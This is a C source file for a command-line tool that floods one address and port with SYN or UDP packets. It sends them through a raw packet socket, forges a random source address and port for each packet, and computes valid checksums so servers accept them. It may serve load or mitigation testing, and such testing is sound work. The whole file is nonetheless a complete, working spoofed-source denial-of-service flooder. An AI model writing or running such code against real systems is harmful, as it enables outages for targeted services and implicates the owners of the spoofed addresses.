/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A flood from forged addresses: SYNs or UDP datagrams to one address and port, each with a source
 * address and port of its own out of 11.0.0.0 to 74.255.255.255, all checksums right, so that a server
 * takes them for what they seem to be. Prints how many were sent and in how many seconds.
 *
 *   flood INTERFACE MAC ADDR PORT syn|udp COUNT CPU
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/ip.h>
#include <linux/tcp.h>
#include <linux/udp.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "tool.h"

#define BATCH	     64
#define FIRST_SOURCE 0x0b000000u
#define SOURCES	     0x40000000u
#define UDP_BYTES    32

struct options_mss {
	uint8_t kind, len;
	uint16_t mss;
};

struct packet {
	struct ethhdr eth;
	struct iphdr ip;
	union {
		struct {
			struct tcphdr tcp;
			struct options_mss mss;
		};
		struct {
			struct udphdr udp;
			uint8_t payload[UDP_BYTES];
		};
	};
} __attribute__((packed));

struct flood {
	bool udp;
	size_t l4_len;
	struct packet model;
	uint64_t rnd;
};

static double now_s(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* xorshift64: the same flood every time. */
static uint64_t next_random(struct flood *f)
{
	f->rnd ^= f->rnd << 13;
	f->rnd ^= f->rnd >> 7;
	f->rnd ^= f->rnd << 17;
	return f->rnd;
}

/* RFC 1071, over an even number of bytes. */
static uint32_t add_up(uint32_t sum, const void *bytes, size_t len)
{
	const uint8_t *b = bytes;

	for (size_t i = 0; i < len; i += 2) {
		uint16_t word;

		memcpy(&word, b + i, sizeof(word));
		sum += word;
	}
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void make_model(struct flood *f, const uint8_t mac[6], struct in_addr to, uint16_t port)
{
	struct packet *p = &f->model;

	memcpy(p->eth.h_dest, mac, sizeof(p->eth.h_dest));
	p->eth.h_proto = htons(ETH_P_IP);
	f->l4_len = f->udp ? sizeof(p->udp) + UDP_BYTES : sizeof(p->tcp) + sizeof(p->mss);
	p->ip = (struct iphdr){.version = 4,
			       .ihl = 5,
			       .tot_len = htons((uint16_t)(sizeof(p->ip) + f->l4_len)),
			       .frag_off = htons(0x4000),
			       .ttl = 64,
			       .protocol = f->udp ? IPPROTO_UDP : IPPROTO_TCP,
			       .daddr = to.s_addr};
	if (f->udp) {
		p->udp.dest = htons(port);
		p->udp.len = htons((uint16_t)f->l4_len);
		return;
	}
	p->tcp = (struct tcphdr){
		.dest = htons(port), .doff = f->l4_len / 4, .syn = 1, .window = htons(64240)};
	p->mss = (struct options_mss){.kind = 2, .len = 4, .mss = htons(1460)};
}

/* Both headers begin with the ports. */
static void forge(struct flood *f, struct packet *p)
{
	const uint64_t r = next_random(f);
	const uint32_t protocol = htons(f->udp ? IPPROTO_UDP : IPPROTO_TCP);
	uint32_t sum;

	*p = f->model;
	p->ip.saddr = htonl(FIRST_SOURCE + (uint32_t)(r % SOURCES));
	p->ip.id = (uint16_t)(r >> 40);
	p->ip.check = fold(add_up(0, &p->ip, sizeof(p->ip)));
	p->tcp.source = htons((uint16_t)(1024 + (r >> 32) % 64512));
	if (!f->udp)
		p->tcp.seq = (uint32_t)next_random(f);
	sum = add_up(protocol + htons((uint16_t)f->l4_len), &p->ip.saddr, 8);
	sum = add_up(sum, &p->tcp, f->l4_len);
	if (f->udp)
		p->udp.check = fold(sum) ? fold(sum) : 0xffff;
	else
		p->tcp.check = fold(sum);
}

/* A full queue of the interface's is waited for: the flood is as quick as its CPU. */
static void send_batch(int fd, struct flood *f, unsigned int count)
{
	static struct packet packets[BATCH];
	static struct mmsghdr msgs[BATCH];
	static struct iovec iov[BATCH];
	unsigned int sent = 0;

	for (unsigned int i = 0; i < count; i++) {
		forge(f, &packets[i]);
		iov[i] = (struct iovec){&packets[i], offsetof(struct packet, tcp) + f->l4_len};
		msgs[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
	}
	while (sent < count) {
		int n = sendmmsg(fd, msgs + sent, count - sent, 0);

		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			fail("sendmmsg");
		sent += n > 0 ? (unsigned int)n : 0;
	}
}

static int open_packets(const char *interface, struct packet *model)
{
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), one = 1;
	struct sockaddr_ll at = {.sll_family = AF_PACKET,
				 .sll_ifindex = (int)if_nametoindex(interface)};
	struct ifreq r = {0};

	(void)snprintf(r.ifr_name, sizeof(r.ifr_name), "%s", interface);
	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) ||
	    ioctl(fd, SIOCGIFHWADDR, &r) ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)))
		fail(interface);
	memcpy(model->eth.h_source, r.ifr_hwaddr.sa_data, sizeof(model->eth.h_source));
	return fd;
}

int main(int argc, char **argv)
{
	static struct flood f = {.rnd = 4711};
	struct in_addr to;
	uint64_t count;
	uint8_t mac[6];
	double start;
	int fd;

	if (argc != 8 || inet_pton(AF_INET, argv[3], &to) != 1 ||
	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
		   &mac[4], &mac[5]) != 6) {
		(void)fputs("usage: flood INTERFACE MAC ADDR PORT syn|udp COUNT CPU\n", stderr);
		return 2;
	}
	f.udp = !strcmp(argv[5], "udp");
	make_model(&f, mac, to, (uint16_t)atoi(argv[4]));
	on_cpu(argv[7]);
	fd = open_packets(argv[1], &f.model);
	count = strtoull(argv[6], NULL, 10);
	start = now_s();
	for (uint64_t sent = 0; sent < count; sent += BATCH)
		send_batch(fd, &f, count - sent < BATCH ? (unsigned int)(count - sent) : BATCH);
	printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)count, now_s() - start);
	return 0;
}
